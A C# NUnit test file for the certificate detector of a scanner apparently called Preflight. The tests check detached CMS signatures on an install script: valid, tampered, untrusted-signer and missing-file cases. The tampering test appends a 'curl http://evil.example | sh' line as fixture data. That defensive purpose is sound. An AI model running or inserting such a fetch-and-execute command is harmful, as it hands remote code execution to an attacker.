using System.Text;
using FluentAssertions;
using NUnit.Framework;
using Org.BouncyCastle.Cms;
using Org.BouncyCastle.Utilities.Collections;
using Preflight.Configuration;
using Preflight.Findings;
using Preflight.Reporting;
using static Preflight.Tests.Detectors.Certificates.TestPki;

namespace Preflight.Tests.Detectors.Certificates;

public class DetachedSignatureTests
{
    private static readonly byte[] Payload = Encoding.UTF8.GetBytes("#!/bin/sh\necho installing acme 5.0\n");

    private static byte[] Sign(byte[] content, Issued signer, params Issued[] chain)
    {
        var gen = new CmsSignedDataGenerator();
        gen.AddSigner(signer.Keys.Private, signer.Certificate, CmsSignedGenerator.DigestSha256);
        gen.AddCertificates(CollectionUtilities.CreateStore(new[] { signer.Certificate }.Concat(chain.Select(static c => c.Certificate))));
        return gen.Generate(new CmsProcessableByteArray(content), false).GetEncoded();
    }

    private static (Issued Root, Issued Ica, Issued Signer) Pki()
    {
        var root = Root("CN=Vendor Root");
        var ica = Intermediate("CN=Vendor Code Signing CA", root);
        var signer = Leaf("CN=Vendor Release Signer", ica, eku: ["1.3.6.1.5.5.7.3.3"], dns: []);
        return (root, ica, signer);
    }

    private static async Task<ScanReport> Scan(TempDir dir, string[] trust, params (string Name, object Content)[] entries) =>
        await PreflightScanner.ScanAsync(Zip(dir, entries), ScanOptions.Default with
        {
            AsOf = AsOf,
            TrustedRoots = trust,
            EnabledDetectors = new HashSet<string> { "certificates" },
        });

    [Test]
    public async Task Scan_accepts_a_valid_detached_signature_from_a_trusted_signer()
    {
        using var dir = new TempDir();
        var (root, ica, signer) = Pki();
        string trust = dir.File("roots.pem", Pem(root.Certificate));

        var report = await Scan(dir, [trust], ("bin/install.sh", Payload), ("bin/install.sh.p7s", Sign(Payload, signer, ica)));

        report.Findings.Should().BeEmpty();
        report.Inventory.Certificates.Select(static c => c.Subject).Should().Contain("CN=Vendor Release Signer");
    }

    [Test]
    public async Task Scan_reports_a_file_altered_after_signing_as_critical()
    {
        using var dir = new TempDir();
        var (root, ica, signer) = Pki();
        string trust = dir.File("roots.pem", Pem(root.Certificate));
        byte[] tampered = [.. Payload, .. "curl http://evil.example | sh\n"u8.ToArray()];

        var report = await Scan(dir, [trust], ("bin/install.sh", tampered), ("bin/install.sh.p7s", Sign(Payload, signer, ica)));

        var finding = report.Findings.Should().ContainSingle(f => f.RuleId == "PF616").Subject;
        finding.Severity.Should().Be(Severity.Critical);
        finding.Location.Path.Should().Be("bin/install.sh.p7s");
        finding.Properties["signer"].Should().Be("CN=Vendor Release Signer");
    }

    [Test]
    public async Task Scan_reports_an_untrusted_signer_of_a_valid_signature()
    {
        using var dir = new TempDir();
        var (_, ica, signer) = Pki();
        string trust = dir.File("other.pem", Pem(Root("CN=Someone Else").Certificate));

        var report = await Scan(dir, [trust], ("bin/install.sh", Payload), ("bin/install.sh.p7s", Sign(Payload, signer, ica)));

        report.Findings.Should().NotContain(f => f.RuleId == "PF616");
        report.Findings.Should().ContainSingle(f => f.RuleId == "PF606" || f.RuleId == "PF605")
            .Which.Location.Path.Should().Be("bin/install.sh.p7s");
    }

    [Test]
    public async Task Scan_reports_a_signature_whose_file_is_missing()
    {
        using var dir = new TempDir();
        var (root, ica, signer) = Pki();
        string trust = dir.File("roots.pem", Pem(root.Certificate));

        var report = await Scan(dir, [trust], ("bin/install.sh.p7s", Sign(Payload, signer, ica)));

        report.Findings.Should().ContainSingle(f => f.RuleId == "PF617").Which.Properties["signedFile"].Should().Be("bin/install.sh");
    }
}
